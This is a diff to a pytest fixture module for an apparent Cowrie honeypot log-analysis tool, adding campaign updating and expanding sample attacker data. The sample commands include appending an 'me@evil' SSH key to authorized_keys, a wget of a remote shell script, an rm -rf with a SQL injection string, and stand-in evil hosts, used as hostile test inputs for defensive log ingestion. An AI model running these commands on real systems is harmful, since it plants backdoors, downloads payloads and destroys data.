@@ -2,6 +2,7 @@
 
 import json
 import random
+from base64 import b64decode, b64encode
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack
 from dataclasses import dataclass
@@ -11,6 +12,7 @@ from pathlib import Path
 
 import pytest
 
+from cowrie_assets.campaigns.update import update_campaigns
 from cowrie_assets.operations.ingest import ingest
 from cowrie_assets.settings import Settings
 from cowrie_assets.warehouse.engine import Warehouse
@@ -19,7 +21,16 @@ from cowrie_assets_tests.loading import write_log
 
 ADDRESSES = ("192.0.2.7", "192.0.2.200", "198.51.100.9", "2001:db8::7", "::ffff:203.0.113.5")
 CREDENTIALS = (("root", "toor"), ("root", "a:b%_!"), ("adm\x00in", "\ud800"), ("", ""))
-COMMANDS = ("uname -a", "wget http://203.0.113.66/a.sh", "rm -rf %_!\\ '; DROP TABLE texts; --", "é" * 3000)
+_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
+KEY = (_KEY, "SHA256:" + b64encode(sha256(b64decode(_KEY)).digest()).decode().rstrip("="))
+"""A public key and its fingerprint."""
+COMMANDS = (
+    f"echo ssh-ed25519 {KEY[0]} me@evil >> .ssh/authorized_keys",
+    "uname -a",
+    "wget http://203.0.113.66/a.sh",
+    "rm -rf %_!\\ '; DROP TABLE texts; --",
+    "é" * 3000,
+)
 URLS = ("http://203.0.113.66/a.sh", "HTTP://Evil.Example:8080/x?y=1", "http://evil_example/", "http://[2001:db8::1]/z")
 HASSHES = (None, "472b5de333ad665af5cbf10ff892c4df", "f" * 32)
 
@@ -94,6 +105,7 @@ def loaded(
             lines = [each for number, session in enumerate(made) for each in _lines(session, number)]
             write_log(folder / "logs", lines)
             ingest(warehouse, Settings(log_root=folder / "logs", database_url=url))
+            update_campaigns(warehouse)
             return warehouse
 
         yield of
